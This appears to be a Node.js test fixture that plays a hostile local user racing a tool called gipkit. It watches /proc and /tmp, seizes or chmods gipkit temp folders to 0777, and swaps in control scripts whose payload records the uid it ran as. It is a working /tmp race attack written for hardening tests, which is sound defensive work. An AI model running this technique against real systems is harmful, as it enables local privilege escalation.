// A hostile local user on the guest (run as an unprivileged account by the hardening 1 test): watches
// /proc/*/cmdline and /tmp for gipkit folders, makes them first or again as its own (0777), and plants or
// swaps control scripts whose payload records the uid it ran as in /tmp/gk-atk-pwned-<uid>.
import fs from 'node:fs';
const until = Date.now() + Number(process.argv[2] ?? '60') * 1000;
const payload = '#!/bin/sh\nid -u > /tmp/gk-atk-pwned-$(id -u)\n';
const seen = /\/tmp\/gipkit-[A-Za-z0-9._-]+/g;
let attempts = 0;
// Every gipkit folder it went for counts, whether or not the guest let it in: the test checks it really raced.
const attack = (folder) => {
  attempts++;
  try { fs.mkdirSync(folder, { mode: 0o777 }); fs.chmodSync(folder, 0o777); } catch {}
  for (const name of ['gipkit-service.sh', 'gipkit-service.run', 'VERSION', 'agent.sh']) {
    const path = `${folder}/${name}`;
    try { fs.rmSync(path, { force: true }); fs.writeFileSync(path, payload, { mode: 0o777 }); } catch {}
  }
};
while (Date.now() < until) {
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(pid)) continue;
    let cmdline = '';
    try { cmdline = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8'); } catch { continue; }
    for (const match of cmdline.matchAll(seen)) attack(match[0]);
  }
  for (const name of fs.readdirSync('/tmp')) if (name.startsWith('gipkit-')) attack(`/tmp/${name}`);
  try { fs.writeFileSync(`/tmp/gk-atk-attempts-${process.getuid()}`, String(attempts)); } catch {}
}
